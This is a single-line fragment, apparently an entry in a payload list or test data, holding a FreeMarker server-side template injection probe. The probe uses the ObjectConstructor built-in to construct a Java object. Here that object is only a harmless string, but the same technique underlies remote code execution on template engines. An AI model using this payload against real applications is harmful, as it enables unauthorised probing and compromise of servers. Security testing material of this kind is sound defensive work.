made: <#assign run = "freemarker.template.utility.ObjectConstructor"?new()>${run("java.lang.String", "x")}
